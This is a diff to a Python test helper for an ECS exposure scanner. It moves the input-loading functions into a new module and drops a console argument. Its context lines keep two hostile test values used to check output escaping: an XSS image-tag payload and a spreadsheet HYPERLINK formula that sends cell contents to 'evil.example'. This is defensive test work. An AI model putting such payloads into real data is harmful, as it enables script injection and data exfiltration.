@@ -11,12 +11,10 @@ from datetime import UTC, datetime
 from functools import cache
 from pathlib import Path
 
-from rich.console import Console
-
 from conftest import container, network, security_group, service, task_definition, tcp
-from ecs_exposure.cli import demo_paths, load_inputs
 from ecs_exposure.model import ScanResult
 from ecs_exposure.scan import scan_inventory
+from ecs_exposure.sources.load import demo_paths, load_inputs
 
 XSS_NAME = "<img src=x onerror=alert(1)>"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x"&A1)|@team # <b>bold</b>'
@@ -33,7 +31,7 @@ def demo_result() -> ScanResult:
     """The bundled demo estate, scanned once per test session at :data:`DEMO_CLOCK`."""
     with ExitStack() as stack:
         paths = demo_paths(stack)
-        inventory, report = load_inputs(paths, Console(stderr=True, quiet=True))
+        inventory, report = load_inputs(paths)
         inventory.images.now = DEMO_CLOCK
         inventory.vulnerabilities.today = DEMO_CLOCK.date()
         return scan_inventory(inventory, errors=report.errors, skipped=report.skipped,
@@ -80,7 +78,7 @@ def write_hostile_estate(folder: Path) -> list[Path]:
 def hostile_result(folder: Path) -> ScanResult:
     """Scan of :func:`write_hostile_estate`."""
     paths = write_hostile_estate(folder)
-    inventory, report = load_inputs(paths, Console(stderr=True, quiet=True))
+    inventory, report = load_inputs(paths)
     return scan_inventory(inventory, errors=report.errors, skipped=report.skipped,
                           inputs=[str(p) for p in paths])
 
